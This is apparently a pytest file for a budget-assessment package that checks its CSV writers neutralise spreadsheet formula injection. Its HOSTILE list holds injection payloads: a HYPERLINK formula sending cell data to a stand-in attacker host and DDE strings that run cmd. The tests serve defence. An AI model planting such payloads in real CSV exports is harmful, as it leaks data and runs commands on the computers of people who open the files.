"""Formula injection (issue 28 item 4): no CSV perfkit writes carries text a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import math
import re
from pathlib import Path

import pandas as pd
import pytest

from perfkit import csvsafe
from perfkit.assess import history
from perfkit.assess.audit import write_audit_csv
from perfkit.assess.figures import AUDIT_COLUMNS
from perfkit.run import tidy

#: Text that Excel or WPS would evaluate when the CSV is opened (OWASP's examples and ours).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "-595.92万元",
]
_PLAIN_NUMBER = re.compile(r"\s*[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\s*")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_the_prefix(text):
    assert csvsafe.neutralise(text) == "'" + text
    assert csvsafe.restore(csvsafe.neutralise(text)) == text


@pytest.mark.parametrize("value", ["收入", "2019年度", "-12.5", "+3", "-1e5", " -7 ", "", "a=b",
                                   -595.92, 0, None, math.nan, True])
def test_numbers_and_harmless_text_are_unchanged(value):
    out = csvsafe.neutralise(value)
    assert out is value or out == value


def test_a_carriage_return_inside_a_cell_does_not_end_the_row():
    """Excel ends a row at a lone CR even in the middle of a cell: "abc\r=1+1" would put a
    formula in the first cell of a new row."""
    text = csvsafe.to_csv(pd.DataFrame({"a": ["abc\r=1+1", "x\r\ny"], "b": [1, 2]}))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["a", "b"], ["abc\n=1+1", "1"], ["x\ny", "2"]]
    assert "\r" not in text


def test_a_leading_quote_is_kept_through_a_round_trip():
    assert csvsafe.neutralise("'已核实") == "''已核实"
    assert csvsafe.restore("''已核实") == "'已核实"


def test_frame_numbers_stay_numbers_text_gets_the_prefix(tmp_path):
    frame = pd.DataFrame({"label": HOSTILE, "value": [-595.92] * len(HOSTILE),
                          "mixed": [-1.5, "-1.5", "=A1", None, 2, "x", "@x", "+", "-"]})
    text = csvsafe.to_csv(frame)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["value"] for r in rows] == ["-595.92"] * len(HOSTILE)
    assert [r["label"] for r in rows] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    assert [r["mixed"] for r in rows] == ["-1.5", "-1.5", "'=A1", "", "2", "x", "'@x", "'+", "'-"]
    path = tmp_path / "t.csv"
    path.write_text(text, encoding="utf-8")
    back = csvsafe.read_csv(path)
    assert list(back["label"]) == [t.replace("\r", "\n") for t in HOSTILE]  # see below
    assert list(back["value"]) == [-595.92] * len(HOSTILE)


def _unsafe_cells(path: Path, encoding: str = "utf-8") -> list[str]:
    """Cells a spreadsheet would read as a formula: a formula character first, not a number."""
    with open(path, encoding=encoding, newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    return [c for c in cells if c.lstrip(" ")[:1] in csvsafe.FORMULA_START | {""} and c
            and c[:1] != "'" and not _PLAIN_NUMBER.fullmatch(c)]


def _hostile_workbook(c: dict) -> None:
    """An own indicator and a 报告数值 row whose text starts like a formula (placeholders first:
    the template writer would type them as formulas; :func:`_hostile_ev` puts the text in)."""
    c["targets"].append({"domain": "other", "code": None, "name": "HOSTILE0", "unit": "%",
                         "direction": None, "target": 90, "actual": 95, "prior": None,
                         "qualifier": None, "target_year": None, "source": "HOSTILE3",
                         "note": "HOSTILE4"})
    c["stated"].append({"ref": "S99", "statement": "HOSTILE4", "check": "revenue_execution_pct",
                        "stated": "133.49%", "location": "HOSTILE1"})


def _hostile_ev(make_workbook):
    """The sample with formula-like text typed as text (as Excel stores ``'=1+1``)."""
    import openpyxl

    from perfkit.assess.evaluation import Evaluation
    from perfkit.data.params import settings_from_dict
    from perfkit.data.reader import load_workbook

    path = make_workbook(_hostile_workbook)
    book = openpyxl.load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("HOSTILE"):
                    cell.value = HOSTILE[int(cell.value[7:])]
                    cell.data_type = "s"
    book.save(path)
    data = load_workbook(path)
    return Evaluation(data, settings_from_dict({"department": "test", "year": data.year}))


def test_tidy_tables_and_audit_csv_hold_no_live_formula(make_workbook, tmp_path):
    ev = _hostile_ev(make_workbook)
    written = [p for p in tidy.write_tables("test", ev.year, tmp_path, ev=ev)
               if p.suffix == ".csv"]
    assert {p.name for p in written} == {"indicators.csv", "checks.csv", "scores.csv",
                                         "pefa.csv", "audit.csv"}
    for path in written:
        assert _unsafe_cells(path) == [], path.name
    indicators = (tmp_path / "tables" / "indicators.csv").read_text(encoding="utf-8")
    assert "'" + HOSTILE[0].replace('"', '""') in indicators
    audit_csv = (tmp_path / "tables" / "audit.csv").read_text(encoding="utf-8")
    assert "'" + HOSTILE[4] in audit_csv
    # Real negative numbers stay numbers: 结转结余 −595.92 in checks.csv's numeric columns.
    checks = pd.read_csv(tmp_path / "tables" / "checks.csv")
    assert (checks.select_dtypes("number") < 0).any().any()

    out = write_audit_csv(pd.DataFrame([{c: HOSTILE[2] for c in AUDIT_COLUMNS}]),
                          tmp_path / "audit-out.csv")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    assert _unsafe_cells(out, "utf-8-sig") == []


def test_history_reads_the_text_back_as_it_was(make_workbook, tmp_path):
    ev = _hostile_ev(make_workbook)
    # This year's tables, standing in for last year's: what a report's trend reads.
    tidy.write_tables("test", ev.year, tmp_path / "test" / str(ev.year - 1), ev=ev)
    s = history.series(ev, outputs=tmp_path)
    assert HOSTILE[0] in set(s.loc[s["year"] == ev.year - 1, "label_zh"])
